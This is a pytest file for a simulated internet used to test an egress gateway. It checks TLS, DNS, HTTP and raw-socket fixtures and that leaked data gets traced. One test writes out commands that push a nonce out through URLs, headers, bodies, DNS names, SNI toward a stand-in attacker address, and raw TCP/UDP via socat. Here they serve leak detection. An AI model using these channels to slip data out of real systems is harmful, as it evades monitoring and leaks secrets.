"""The fake internet itself: every client works against it without a gateway, and it sees and forgets what it should.

If these fail, a failure elsewhere says nothing about the gateway.
"""
from __future__ import annotations

import pytest

from clients import CLIENTS
from world import names
from world.fake_internet import FakeInternet
from world.homes import BUILDER
from world.network import Network


@pytest.mark.parametrize("client", CLIENTS, ids=lambda c: c.name)
def test_client_works_directly(world, client, user):
    folder = world.job_folder(user, client.project)
    client.prepare(folder)
    since = world.evidence.mark()
    done = world.direct(client.command, user, folder)
    assert done.code == 0, done
    client.check(world, folder, done, world.evidence.events(since))


def test_clients_do_not_trust_the_fixtures_by_themselves(world):
    """Else nothing behind the gateway would prove that its CA is trusted."""
    assert world.run("curl -sS https://echo.example/").code == 60


def test_nonce_is_found_wherever_it_leaks(world):
    leaks = {
        "url": "curl -sS https://echo.example/{}", "header": "curl -sS -H 'X-Nonce: {}' https://files.example/small.txt",
        "body": "curl -sS -d '{}' https://echo.example/", "name": "dig +tries=1 {}.denied.example",
        "sni": "curl -skS --connect-to ::{address}:443 https://{}.unknown.test/; true",
        "tcp": "printf %s {} | timeout 1 socat - TCP:raw.example:9",
        "udp": "printf %s {} | socat - UDP:8.8.8.8:123; true",
        "upper case": "dig +tries=1 $(echo {} | tr a-z A-Z).denied.example",
    }
    for way, command in leaks.items():
        nonce = world.nonce()
        assert world.traces(nonce) == []
        done = world.direct(command.format(nonce, address=names.ATTACKER))
        assert world.traces(nonce), f"{way} left no trace: {done}"


def test_packets_to_any_address_are_seen(world):
    since = world.evidence.mark()
    world.direct("for a in 8.8.8.8 1.2.3.4; do curl -s -m 2 http://$a/; done; curl -s -m 2 http://[2a00::1]/")
    world.settle()
    targets = {p.destination for p in world.evidence.packets(since) if p.is_syn}
    assert {"8.8.8.8", "1.2.3.4", "2a00::1"} <= targets


@pytest.mark.parametrize("host", names.BAD_TLS)
def test_bad_certificates_are_bad(world, host):
    assert world.direct(f"curl -sS https://{host}/").code in (35, 60)


@pytest.mark.parametrize("host", names.GOOD_TLS)
def test_unusual_certificates_are_good(world, host):
    assert world.direct(f"curl -fsS https://{host}/").code == 0


def test_old_tls_is_old(world):
    done = world.direct(f"curl -sS https://{names.OLD_TLS}/; curl -sS --tls-max 1.1 --ciphers DEFAULT@SECLEVEL=0 https://{names.OLD_TLS}/")
    assert done.code == 0 and "(35)" in done.err and '"sni"' in done.out, done


def test_dns_zone(world):
    done = world.direct("dig +short svc.example HTTPS; dig +short many.example | wc -l; dig missing.example; dig broken.example;"
                        "dig +short alias.example; dig +tcp +short v6only.example AAAA; dig v6only.example A")
    for expected in ("ech=", "\n80\n", "NXDOMAIN", "SERVFAIL", "target.alias.example.\n" + names.ORIGIN, names.ORIGIN6):
        assert expected in done.out, f"{expected!r} is missing: {done}"


def test_http_shapes(world):
    done = world.direct("curl -sS https://echo.example/trailers https://echo.example/until-close https://echo.example/early; "
                        "curl -sSI https://echo.example/status/304; curl -sS 'https://echo.example/stream?bytes=1000000&chunked' | wc -c; "
                        "head -c 2000000 /dev/zero | curl -sS -T - https://echo.example/up")
    for expected in ("body", "until the end", "after hints", "304 Fixture", "1000000\n", '"length": 2000000'):
        assert expected in done.out, f"{expected!r} is missing: {done}"


def test_raw_services(world):
    done = world.direct("printf ping | socat -t1 - TCP:raw.example:7; socat -u -T1 TCP:raw.example:2222 -; "
                        "printf HELO | socat -t1 - TCP:raw.example:443")
    assert done.out == "pingSSH-2.0-fixture_1.0\r\nHELO", done


def test_a_world_leaves_nothing(tmp_path):
    """Also after a failure in the middle: the second close finds nothing to do."""
    import subprocess
    import sys
    from pathlib import Path
    script = ("import sys; sys.dont_write_bytecode = True; sys.path.insert(0, sys.argv[1])\n"
              "from world.fake_internet import FakeInternet\n"
              "w = FakeInternet(); w.start(['sleep', '600'], w.job_folder())\n"
              "print(w.folder, w.network.net, w.network.gw); left = w.close(); assert left == [] and w.close() == [], left")
    done = subprocess.run([sys.executable, "-c", script, str(Path(__file__).parent)], capture_output=True, text=True,
                          check=True)
    folder, *namespaces = done.stdout.split()
    assert not Path(folder).exists()
    listed = subprocess.run(["ip", "netns", "list"], capture_output=True, text=True, check=True).stdout
    assert not any(name in listed for name in namespaces)
    running = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True).stdout
    assert folder not in running
